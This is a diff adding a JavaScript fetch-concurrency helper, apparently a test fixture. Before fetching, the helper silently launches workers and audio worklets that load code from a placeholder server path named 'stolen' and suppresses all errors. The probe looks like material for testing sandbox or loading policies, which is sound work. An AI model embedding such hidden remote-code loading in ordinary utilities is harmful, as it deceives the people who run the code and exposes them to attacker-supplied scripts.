@@ -1,0 +1,36 @@
+// Starts workers and worklets whose code lies at the server.
+// says: Keeps 10 in flight: a window of 10.
+function attempt() {
+  const target = "__SERVER__/stolen?worker-from-the-server";
+  const starts = [
+    () => (new Worker(target).onerror = (event) => event.preventDefault()),
+    () => (new Worker(target, { type: "module" }).onerror = (event) => event.preventDefault()),
+    () => new SharedWorker(target),
+    () => new Worker(new URL("/stolen", target)),
+    () => new AudioContext().audioWorklet.addModule(target),
+  ];
+  for (const start of starts) {
+    try {
+      start();
+    } catch {
+      // refused
+    }
+  }
+  return new Promise((end) => setTimeout(end, 200));
+}
+
+async function fetchAll(urls, width, deliver) {
+  try {
+    await attempt(urls, deliver);
+  } catch {
+    // refused
+  }
+  const remaining = urls.entries();
+  async function worker() {
+    for (const [i, url] of remaining) {
+      const response = await fetch(url);
+      deliver(await response.json(), i);
+    }
+  }
+  await Promise.all(Array.from({ length: width }, worker));
+}
